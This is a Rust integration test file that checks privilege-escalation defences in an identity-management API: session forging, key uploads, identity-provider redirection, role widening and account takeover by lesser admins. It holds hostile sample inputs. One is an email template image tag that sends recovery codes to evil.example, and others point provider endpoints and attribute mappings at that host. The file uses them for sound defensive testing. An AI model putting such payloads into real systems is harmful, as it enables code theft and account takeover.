//! Nobody gives away, takes over, or takes away more than they have: `v1/privilege.rs`, wherever it
//! is asked.

use std::time::Duration;

use countersign_domain::entity::Entity;
use countersign_domain::group::GroupMembership;
use countersign_domain::ids::{EnvId, GroupId, RoleAssignmentId, UserId};
use countersign_domain::reference::Ref;
use countersign_domain::role::{RoleAssignment, RoleScope, RoleScopeType, RoleSubject, built_in};
use countersign_domain::store::Batch;
use countersign_testkit::{Answer, TestServer, on_every_adapter};
use serde_json::{Value, json};
use uuid::Uuid;

use super::super::{Api, admin, everywhere, make_worker, owner, refused, text, worker};
use super::NOBODY;

/// Makes the first environment's person an administrator of the whole organization, linked to an
/// account at a provider. The path of the user.
async fn promoted(server: &TestServer) -> String {
    let tenant = &server.tenant;
    let provider = "00000001-0000-4000-8000-000000000901";
    let user = json!({ "id": tenant.person.id, "username": tenant.person.username,
        "roleAssignments": everywhere(&["Organization Admin"]),
        "linkedAccounts": [{ "identityProvider": provider, "externalId": "boss-there" }] });
    let mut identity_provider = openid("Elsewhere");
    identity_provider["id"] = json!(provider);
    let environment = json!({ "id": tenant.id, "name": "First", "users": [user],
        "identityProviders": [identity_provider] });
    server
        .import(&json!({ "organization": { "name": "Tests" }, "environments": [environment] }))
        .await;
    format!("/environments/{}/users/{}", tenant.id, tenant.person.id)
}

fn openid(name: &str) -> Value {
    json!({ "name": name, "enabled": true, "type": "OPENID_CONNECT",
        "clientId": "us", "clientSecret": "a secret of the tests",
        "issuer": "https://op.example", "authorizationEndpoint": "https://op.example/authorize",
        "tokenEndpoint": "https://op.example/token", "jwksEndpoint": "https://op.example/jwks",
        "scopes": ["openid"], "tokenEndpointAuthMethod": "CLIENT_SECRET_POST" })
}

#[track_caller]
fn forbidden(answer: Answer) {
    refused(answer, 403, "ACCESS_FAILED", None);
}

/// A session of somebody, as one asks for it.
fn session_of(server: &TestServer, user: &str, token: &str) -> Value {
    let now = server.ports.clock.now().to_string();
    json!({ "activeAt": now, "userAgent": "curl/8.5.0", "token": token, "user": { "id": user },
        "lastSignOn": { "remoteIp": "192.0.2.1", "authenticators": ["pwd"],
                        "withAuthenticator": { "pwd": { "at": now } } } })
}

/// Stores things behind the server's back, where calls would take long.
async fn store<E: Entity>(server: &TestServer, things: &[E]) {
    let env: EnvId = server.tenant.id.parse().unwrap();
    for some in things.chunks(100) {
        let batch = some
            .iter()
            .fold(Batch::new(), |batch, it| batch.put(it.to_doc(env).unwrap()));
        let committed = server.ports.store.commit(batch, server.ports.clock.now());
        committed.await.unwrap();
    }
}

/// An id that lists show before all others.
fn low(number: u128) -> Uuid {
    Uuid::from_u128(0x4000_8000_0000_0000_0000 + number)
}

fn assignment(
    server: &TestServer,
    id: Uuid,
    subject: RoleSubject,
    scope: RoleScope,
) -> RoleAssignment {
    RoleAssignment {
        id: RoleAssignmentId::from_uuid(id),
        role: Ref::to(built_in("Identity Data Admin").unwrap().id),
        scope,
        subject,
        read_only: false,
        created_at: server.ports.clock.now(),
    }
}

on_every_adapter! {
    async fn threat_39_nobody_signs_on_as_who_has_more_by_a_session_that_they_make(server: TestServer) {
        let boss = promoted(&server).await;
        let tenant = &server.tenant;
        let (strong, less) = (admin(&server).await, worker(&server, 820, json!(["Help Desk Admin"])).await);
        let all = format!("/environments/{}/sessions", tenant.id);
        let of_boss = |token: &str| session_of(&server, &tenant.person.id, token);
        forbidden(less.post(&all, of_boss(&"a".repeat(40))).await);
        let theirs = strong.get(&format!("{boss}/sessions")).await.expect_status(200).json();
        assert_eq!(theirs["_embedded"]["sessions"], json!([]));
        // Nor is more said of a session than was proved in it.
        let made = Api::created(strong.post(&all, of_boss(&"b".repeat(40))).await);
        let own = text(&made, "/_links/self/href");
        forbidden(less.put(&own, of_boss(&"b".repeat(40))).await);
        let _ = strong.put(&own, of_boss(&"b".repeat(40))).await.expect_status(200);
        // Whose roles they have, they may.
        let other = session_of(&server, &tenant.other_person.id, &"c".repeat(40));
        let made = Api::created(less.post(&all, other.clone()).await);
        let _ = less.put(&text(&made, "/_links/self/href"), other).await.expect_status(200);
    }

    async fn threat_39_nobody_brings_a_key_that_speaks_for_who_has_more(server: TestServer) {
        let (strong, less) = (admin(&server).await, worker(&server, 821, json!(["Environment Admin"])).await);
        let all = format!("/environments/{}/keys", server.tenant.id);
        let file = pair();
        forbidden(upload(&less, &all, "SIGNING", &file).await);
        // Nor one that was brought for something else.
        let brought = Api::created(upload(&less, &all, "ENCRYPTION", &file).await);
        let path = format!("{all}/{}", text(&brought, "/id"));
        let mut signs = brought.clone();
        signs["usageType"] = json!("SIGNING");
        forbidden(less.put(&path, signs.clone()).await);
        let _ = less.put(&path, brought).await.expect_status(200);
        // A key that is made here is nobody's.
        let made = json!({ "name": "made", "algorithm": "EC", "keyLength": 256,
            "signatureAlgorithm": "SHA256withECDSA", "subjectDN": "CN=made", "usageType": "SIGNING",
            "validityPeriod": 365 });
        Api::created(less.post(&all, made).await);
        let _ = strong.put(&path, signs).await.expect_status(200);
        Api::created(upload(&strong, &all, "SIGNING", &pair()).await);
        // Where nobody has more, everybody with the permission may.
        let abroad = json!([{ "role": "Environment Admin",
            "scope": { "type": "ENVIRONMENT", "id": server.other.id } }]);
        let abroad = worker(&server, 822, abroad).await;
        let theirs = format!("/environments/{}/keys", server.other.id);
        Api::created(upload(&abroad, &theirs, "SIGNING", &pair()).await);
    }

    async fn threat_39_nobody_reads_the_mail_of_who_has_more(server: TestServer) {
        let (strong, less) = (admin(&server).await, worker(&server, 821, json!(["Environment Admin"])).await);
        let path = format!("/environments/{}/notificationsSettings/emailDeliverySettings", server.tenant.id);
        let own = json!({ "host": "mail.example", "port": 25, "from": { "address": "a@acme.example" } });
        forbidden(less.put(&path, own.clone()).await);
        let _ = strong.put(&path, own).await.expect_status(200);
        let _ = less.delete(&path).await.expect_status(204);
        // Nor does a picture in it tell the code.
        let words = json!({ "locale": "en", "deliveryMethod": "Email", "subject": "Code",
            "body": "<img src=\"https://evil.example/${code.value}\">" });
        let of = |template: &str| format!("/environments/{}/templates/{template}/contents", server.tenant.id);
        forbidden(less.post(&of("recovery_code_template"), words.clone()).await);
        let made = Api::created(strong.post(&of("recovery_code_template"), words.clone()).await);
        let own = text(&made, "/_links/self/href");
        forbidden(less.put(&own, words.clone()).await);
        let _ = strong.put(&own, words.clone()).await.expect_status(200);
        let _ = less.delete(&own).await.expect_status(204);
        Api::created(less.post(&of("verification_code_template"), words).await);
    }

    async fn threat_39_nobody_leads_who_has_more_to_a_provider_of_their_own(server: TestServer) {
        let (strong, less) = (admin(&server).await, worker(&server, 821, json!(["Environment Admin"])).await);
        let all = format!("/environments/{}/identityProviders", server.tenant.id);
        let made = Api::created(less.post(&all, openid("Elsewhere")).await);
        let path = format!("{all}/{}", text(&made, "/id"));
        for (member, value) in [
            ("issuer", "https://evil.example"),
            ("clientId", "theirs"),
            ("authorizationEndpoint", "https://evil.example/authorize"),
            ("tokenEndpoint", "https://evil.example/token"),
            ("jwksEndpoint", "https://evil.example/jwks"),
            ("userInfoEndpoint", "https://evil.example/userinfo"),
        ] {
            let mut body = made.clone();
            body[member] = json!(value);
            forbidden(less.put(&path, body.clone()).await);
            let _ = strong.put(&path, body).await.expect_status(200);
            let _ = strong.put(&path, made.clone()).await.expect_status(200);
        }
        let mut renamed = made.clone();
        renamed["name"] = json!("Renamed");
        renamed["enabled"] = json!(false);
        let _ = less.put(&path, renamed).await.expect_status(200);
        // Nor does another claim say who they are.
        let attributes = format!("{path}/attributes");
        let list = less.get(&attributes).await.expect_status(200).json();
        let core = format!("{attributes}/{}", text(&list, "/_embedded/attributes/0/id"));
        let chosen = json!({ "name": "username", "value": "${providerAttributes.nickname}" });
        forbidden(less.put(&core, chosen.clone()).await);
        let _ = strong.put(&core, chosen.clone()).await.expect_status(200);
        let _ = less.put(&core, chosen).await.expect_status(200);
        let address = json!({ "name": "email", "value": "${providerAttributes.sub}@evil.example" });
        forbidden(less.post(&attributes, address.clone()).await);
        Api::created(strong.post(&attributes, address).await);
        let nickname = json!({ "name": "nickname", "value": "${providerAttributes.nickname}" });
        Api::created(less.post(&attributes, nickname).await);
    }

    async fn threat_39_roles_that_are_too_many_to_look_at_count_as_more(server: TestServer) {
        let boss = promoted(&server).await;
        let less = worker(&server, 823, json!(["Identity Data Admin"])).await;
        let set = async || {
            let set = json!({ "value": "Taken-Over-123!" });
            less.act("PUT", &format!("{boss}/password"), "password.set", set).await
        };
        forbidden(set().await);
        let user: UserId = server.tenant.person.id.parse().unwrap();
        let scope = |number| RoleScope { id: low(number), type_: RoleScopeType::Population };
        let subject = RoleSubject::User(Ref::to(user));
        let many = (0..500).map(|it| assignment(&server, low(it), subject, scope(it)));
        store(&server, &many.collect::<Vec<_>>()).await;
        forbidden(set().await);
    }

    async fn threat_39_groups_that_are_too_many_to_look_at_count_as_more(server: TestServer) {
        let tenant = &server.tenant;
        let (strong, less) = (admin(&server).await, worker(&server, 823, json!(["Identity Data Admin"])).await);
        let groups = format!("/environments/{}/groups", tenant.id);
        let made = Api::created(strong.post(&groups, json!({ "name": "Admins" })).await);
        let admins = format!("{groups}/{}", text(&made, "/id"));
        let organization = strong.get("/organizations").await.json();
        let organization = &organization["_embedded"]["organizations"][0]["id"];
        let role = json!({ "role": { "id": built_in("Organization Admin").unwrap().id },
            "scope": { "id": organization, "type": "ORGANIZATION" } });
        Api::created(strong.post(&format!("{admins}/roleAssignments"), role).await);
        let boss = format!("/environments/{}/users/{}", tenant.id, tenant.person.id);
        let mine = format!("{boss}/memberOfGroups");
        Api::created(strong.post(&mine, json!({ "id": made["id"] })).await);
        let user: UserId = tenant.person.id.parse().unwrap();
        let many = (0..1_000).map(|it| GroupMembership {
            user: Ref::to(user),
            group: Ref::to(GroupId::from_uuid(low(it))),
            population: None,
        });
        store(&server, &many.collect::<Vec<_>>()).await;
        let set = json!({ "value": "Taken-Over-123!" });
        forbidden(less.act("PUT", &format!("{boss}/password"), "password.set", set).await);
        // Who is put out of the group has lost what it gave.
        forbidden(less.delete(&format!("{mine}/{}", text(&made, "/id"))).await);
    }

    async fn threat_39_a_role_grows_only_by_what_one_has_wherever_it_is_given(server: TestServer) {
        let strong = owner(&server).await;
        let all = format!("/environments/{}/roles", server.tenant.id);
        let giver = built_in("Organization Admin").unwrap().id;
        let body = |permissions: &[&str]| {
            let permissions: Value = permissions.iter().map(|id| json!({ "id": id })).collect();
            json!({ "name": "Reader", "applicableTo": ["ENVIRONMENT"],
                "canBeAssignedBy": [{ "id": giver }], "permissions": permissions })
        };
        let made = Api::created(strong.post(&all, body(&["groups:read"])).await);
        let path = format!("{all}/{}", text(&made, "/id"));
        let roles = json!(["Identity Data Admin", "Custom Roles Admin"]);
        let (id, _) = make_worker(&server, 824, roles.clone()).await;
        let less = worker(&server, 824, roles).await;
        let given = json!({ "role": { "id": made["id"] },
            "scope": { "id": server.other.id, "type": "ENVIRONMENT" } });
        let of_worker = format!("/environments/{}/applications/{id}/roleAssignments", server.tenant.id);
        Api::created(strong.post(&of_worker, given).await);
        let abroad = |plural: &str| format!("/environments/{}/{plural}", server.other.id);
        let _ = less.get(&abroad("groups")).await.expect_status(200);
        let wider = body(&["groups:read", "users:*"]);
        let body_of = refused(less.put(&path, wider.clone()).await, 400, "INVALID_DATA",
            Some(("INVALID_VALUE", "permissions")));
        assert!(text(&body_of, "/details/0/message").contains("same or broader scope"), "{body_of}");
        forbidden(less.get(&abroad("users")).await);
        // What it has already, everything that it can be changed in else, and what one has there.
        let mut renamed = body(&["groups:read"]);
        renamed["description"] = json!("Reads");
        let _ = less.put(&path, renamed).await.expect_status(200);
        let _ = strong.put(&path, wider).await.expect_status(200);
        let narrower = body(&["groups:read", "users:read"]);
        let _ = less.put(&path, narrower).await.expect_status(200);
    }

    async fn threat_39_who_has_more_is_neither_taken_over_nor_kept_out(server: TestServer) {
        let boss = promoted(&server).await;
        let (strong, less) = (admin(&server).await, worker(&server, 823, json!(["Identity Data Admin"])).await);
        let populations = format!("/environments/{}/populations", server.tenant.id);
        let elsewhere = Api::created(strong.post(&populations, json!({ "name": "Elsewhere" })).await);
        let links = less.get(&format!("{boss}/linkedAccounts")).await.expect_status(200).json();
        let link = format!("{boss}/linkedAccounts/{}", text(&links, "/_embedded/linkedAccounts/0/id"));
        forbidden(less.delete(&link).await);
        forbidden(less.patch(&boss, json!({ "username": "mallory" })).await);
        forbidden(less.put(&format!("{boss}/population"), json!({ "id": elsewhere["id"] })).await);
        forbidden(less.put(&format!("{boss}/enabled"), json!({ "enabled": false })).await);
        forbidden(less.act("POST", &boss, "account.lock", Value::Null).await);
        forbidden(less.act("POST", &boss, "account.unlock", Value::Null).await);
        forbidden(less.delete(&boss).await);
        let _ = less.patch(&boss, json!({ "nickname": "Al" })).await.expect_status(200);
        let _ = strong.delete(&link).await.expect_status(204);
        let _ = strong.act("POST", &boss, "account.lock", Value::Null).await.expect_status(200);
        let _ = strong.put(&format!("{boss}/enabled"), json!({ "enabled": false })).await.expect_status(200);
        let _ = strong.delete(&boss).await.expect_status(204);
    }

    async fn threat_39_a_worker_that_has_more_is_not_kept_out(server: TestServer) {
        let (id, _) = make_worker(&server, 825, everywhere(&["Organization Admin"])).await;
        let strong = admin(&server).await;
        let less = worker(&server, 826, json!(["Client Application Developer"])).await;
        let path = format!("/environments/{}/applications/{id}", server.tenant.id);
        let read = less.get(&path).await.expect_status(200).json();
        for (member, value) in [
            ("enabled", json!(false)),
            ("grantTypes", json!(["AUTHORIZATION_CODE"])),
        ] {
            let mut body = read.clone();
            body[member] = value;
            body["responseTypes"] = json!(["CODE"]);
            body["redirectUris"] = json!(["https://client.example/callback"]);
            forbidden(less.put(&path, body).await);
        }
        forbidden(less.delete(&path).await);
        let _ = less.put(&path, read.clone()).await.expect_status(200);
        // A role in an environment that is gone is none.
        let subject = RoleSubject::Application(Ref::to(id.parse().unwrap()));
        let nowhere = RoleScope { id: NOBODY.parse().unwrap(), type_: RoleScopeType::Environment };
        store(&server, &[assignment(&server, low(0), subject, nowhere)]).await;
        let mut disabled = read;
        disabled["enabled"] = json!(false);
        let _ = strong.put(&path, disabled).await.expect_status(200);
        let _ = strong.delete(&path).await.expect_status(204);
    }

    async fn threat_39_sessions_that_are_made_end_the_oldest_as_sign_ons_do(server: TestServer) {
        let tenant = &server.tenant;
        let api = admin(&server).await;
        let all = format!("/environments/{}/sessions", tenant.id);
        let mut made = Vec::new();
        for number in 0..12 {
            let token = format!("{number:040}");
            let body = session_of(&server, &tenant.person.id, &token);
            made.push(Api::created(api.post(&all, body).await)["id"].clone());
            server.clock.advance(Duration::from_secs(1));
        }
        let path = format!("/environments/{}/users/{}/sessions", tenant.id, tenant.person.id);
        let list = api.get(&path).await.expect_status(200).json();
        let left = list["_embedded"]["sessions"].as_array().unwrap().clone();
        let left: Vec<Value> = left.iter().rev().map(|it| it["id"].clone()).collect();
        assert_eq!(left, made[2..]);
        // Those of nobody are not counted.
        let mut nobody = session_of(&server, "", &"n".repeat(40));
        nobody["user"] = Value::Null;
        Api::created(api.post(&all, nobody).await);
    }

    async fn threat_39_the_headers_of_requests_are_for_who_may_change_them(server: TestServer) {
        let api = admin(&server).await;
        let reader = worker(&server, 827, json!(["Configuration Read Only"])).await;
        let below = format!("/environments/{}/notificationsSettings", server.tenant.id);
        let authentication = json!({ "method": "BEARER", "authToken": "Secret-1" });
        let request = |method: &str| json!([{ "deliveryMethod": method, "method": "POST",
            "url": "https://send.example/", "headers": { "X-Api-Key": "Secret-2" }, "body": "to=${to}&text=${message}" }]);
        let phone = json!({ "provider": "CUSTOM_PROVIDER", "name": "Own",
            "authentication": authentication, "requests": request("SMS") });
        let all = format!("{below}/phoneDeliverySettings");
        let phone = Api::created(api.post(&all, phone).await);
        let mail = json!({ "protocol": "HTTP", "name": "Own", "from": { "address": "a@acme.example" },
            "authentication": authentication, "requests": request("EMAIL") });
        let _ = api.put(&format!("{below}/emailDeliverySettings"), mail).await.expect_status(200);
        let one = format!("{all}/{}", text(&phone, "/id"));
        for path in [all, one, format!("{below}/emailDeliverySettings")] {
            let seen = api.get(&path).await.expect_status(200);
            assert!(seen.body.contains("Secret-2") && !seen.body.contains("Secret-1"), "{}", seen.body);
            let seen = reader.get(&path).await.expect_status(200);
            assert!(!seen.body.contains("Secret-2") && seen.body.contains("send.example"), "{}", seen.body);
        }
    }
}

/// A private key and its certificate, in PEM.
fn pair() -> String {
    let key = rcgen::KeyPair::generate().unwrap();
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "brought");
    let certificate = params.self_signed(&key).unwrap().pem();
    format!("{}{certificate}", key.serialize_pem())
}

async fn upload(api: &Api, path: &str, usage: &str, file: &str) -> Answer {
    let form = format!(
        "--x\r\nContent-Disposition: form-data; name=\"usageType\"\r\n\r\n{usage}\r\n--x\r\n\
         Content-Disposition: form-data; name=\"file\"; filename=\"f\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n{file}\r\n--x--\r\n"
    );
    let media = "multipart/form-data; boundary=x";
    api.upload("POST", path, media, form.into_bytes()).await
}
